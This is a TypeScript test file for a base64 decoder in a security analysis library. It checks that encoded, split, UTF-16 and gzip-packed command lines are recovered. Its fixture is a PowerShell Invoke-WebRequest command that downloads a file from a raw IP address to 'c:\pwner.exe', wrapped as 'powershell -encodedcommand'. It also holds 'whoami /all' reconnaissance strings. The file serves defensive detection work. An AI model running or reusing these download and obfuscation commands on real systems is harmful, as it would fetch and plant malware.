import { gzipSync, deflateRawSync, deflateSync } from 'node:zlib';
import { Frame, type CasebookError } from '@casebook/core';
import { decodeBase64, decodeBase64Text } from '@casebook/analysis';

const b64 = (text: string | Buffer, encoding: BufferEncoding = 'utf8'): string =>
  (typeof text === 'string' ? Buffer.from(text, encoding) : text).toString('base64');

const COMMAND =
  'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"';
const ENCODED = b64(COMMAND);

const texts = (text: string): unknown[] => [...decodeBase64Text(text).items.values('decoded_string')];
const kinds = (text: string): unknown[] =>
  decodeBase64Text(text)
    .items.toTable()
    .rows.map((row) => [row[0], row[3], row[6]].join(' '));

describe('what a value is', () => {
  it.each([
    ['whole', ` powershell -encodedcommand ${ENCODED}`],
    ['broken by a line end', ` powershell -encodedcommand ${ENCODED.slice(0, 17)}\n${ENCODED.slice(17)}\n`],
    ['broken by a space', ` powershell -encodedcommand ${ENCODED.slice(0, 17)} ${ENCODED.slice(17)} `],
    ['without padding', `${ENCODED.replace(/=+$/, '')} exit`],
    ['in lines of 64', (ENCODED.match(/.{1,64}/g) ?? []).join('\r\n')],
    ['in lines of 76', (ENCODED.match(/.{1,76}/g) ?? []).join('\n')],
    ['behind a dash', `-${ENCODED}`],
    ['in a path', `https://example.com/a/b/c/${ENCODED}`],
    ['url-safe', Buffer.from(COMMAND).toString('base64url')],
    ['UTF-16', b64(COMMAND, 'utf16le')],
    ['UTF-16 with a mark', b64(`\ufeff${COMMAND}`, 'utf16le')],
  ])('%s', (_, text) => expect(texts(text)).toEqual([COMMAND]));

  it('keeps neighbours apart', () => {
    expect(texts(`${b64('first value here')} ${b64('second value here too')} word`)).toEqual([
      'first value here',
      'second value here too',
    ]);
    expect(
      texts('the quick brown fox jumps over internationalization of /usr/local/lib/python3/dist-packages'),
    ).toEqual([]);
    expect(
      texts(
        '81ed03caf6901e444c72ac67d192fb9c aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa operationalinsights/workspaces/contoso77',
      ),
    ).toEqual([]);
  });

  it('shows the text with what was decoded in its place', () => {
    expect(decodeBase64Text(`echo ${b64(`run ${b64('whoami /all /fo list')}`)} | sh`).text).toBe(
      "echo <decoded type='string' name='[None]' index='1' depth='1'>run " +
        "<decoded type='string' name='[None]' index='1.1' depth='2'>whoami /all /fo list</decoded></decoded> | sh",
    );
  });
});

describe('what is packed', () => {
  it.each([
    ['gz', gzipSync(COMMAND)],
    ['zlib', deflateSync(COMMAND)],
    ['deflate', deflateRawSync(COMMAND)],
  ])('%s', (type, bytes) => expect(kinds(`x ${b64(bytes)} y`)).toEqual([`1 ${type} binary`, '1.1  utf-8']));
});

it('answers a frame with a row for each item, and the columns of the source', () => {
  const frame = Frame.fromRows(
    [{ name: 'md5', type: 'string' }],
    [
      { md5: 'nothing' },
      { md5: b64('whoami /all /fo list') },
      { md5: null },
      { md5: b64('whoami /all /fo list') },
    ],
  );
  const items = decodeBase64(frame, { column: 'md5' });
  expect(items.columns.map(({ name }) => name).join()).toBe(
    'reference,original_string,file_name,file_type,input_bytes,decoded_string,encoding_type,file_hashes,md5,sha1,sha256,printable_bytes,limit,src_index,md51,full_decoded_string',
  );
  expect(items.values('src_index')).toEqual([1, 3]);
  expect(decodeBase64(frame.where({ md5: 'none' }), { column: 'md5' }).columns).toEqual(items.columns);
});

it('answers no rows with the same columns, and names the nearest column where one is missing', () => {
  const frame = Frame.fromObjects([{ CommandLine: b64('whoami /all /fo list'), n: 1 }]);
  const columns = decodeBase64(frame, { column: 'CommandLine' }).columns;
  for (const nothing of [frame.take(0), frame.extend({ CommandLine: () => '' })])
    expect(decodeBase64(nothing, { column: 'CommandLine' })).toMatchObject({ rowCount: 0, columns });
  expect(helpOf(() => decodeBase64(frame, { column: 'CommandLin' }))).toBe(
    'Did you mean CommandLine? Columns: CommandLine, n.',
  );
  expect(helpOf(() => decodeBase64(frame, { column: 'n' }))).toBe('Give a column of type string or dynamic.');
});

const helpOf = (work: () => unknown): string | undefined => {
  try {
    work();
  } catch (error) {
    return (error as CasebookError).help;
  }
  return undefined;
};
